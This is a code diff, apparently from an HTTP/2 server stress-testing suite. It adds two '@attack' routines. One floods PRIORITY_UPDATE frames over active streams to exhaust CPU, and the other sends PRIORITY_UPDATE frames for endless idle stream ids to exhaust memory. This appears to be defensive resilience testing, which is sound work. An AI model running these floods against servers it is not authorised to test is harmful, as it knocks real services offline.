@@ -1182,6 +1182,45 @@ def priority_update_flood(ctx):
     return result(ctx, [c], 'frames')
 
 
+@attack('priority-update-sending', 'PRIORITY_UPDATE flood over 100 streams whose responses are flowing',
+        'frames', kind='cpu')
+def priority_update_sending(ctx):
+    """100 GET /big.bin with open windows, the DATA read; PRIORITY_UPDATE
+    frames moving random streams between urgencies and kinds, 2,000 per
+    write, so that every update moves a stream the scheduler holds."""
+    c = Conn(ctx.port)
+    handshake(c)
+    opened = open_streams(c, 100) or list(range(1, 201, 2))
+    rng = random.Random(92180)
+    batches = [b''.join(priority_update(rng.choice(opened), b'u=%d%s' % (rng.randint(0, 7),
+                                                                      b', i' if rng.random() < 0.5 else b''))
+                        for _ in range(2000)) for _ in range(8)]
+    i = 0
+    while ctx.running() and c.alive():
+        c.send(batches[i % len(batches)], frames=2000, units=2000)
+        i += 1
+        c.pump()
+    c.drain(0.3)
+    ctx.notes.append(f'{fmt(c.data_bytes)} octets of DATA received')
+    return result(ctx, [c], 'frames')
+
+
+@attack('priority-update-idle', 'PRIORITY_UPDATE for ever new idle streams (RFC 9218 §7.1)', 'frames',
+        kind='memory')
+def priority_update_idle(ctx):
+    """PRIORITY_UPDATE frames for streams not opened yet, each a new id, 2,000
+    per write: a server that buffers them for later must bound that."""
+    c = Conn(ctx.port)
+    handshake(c)
+    sid = 1
+    while ctx.running() and c.alive() and sid < 0x7fff0000:
+        c.send(b''.join(priority_update(s, b'u=1') for s in range(sid, sid + 4000, 2)), frames=2000, units=2000)
+        sid += 4000
+        c.pump()
+    c.drain(0.3)
+    return result(ctx, [c], 'frames')
+
+
 # ------------------------------------------------------------------ main
 
 
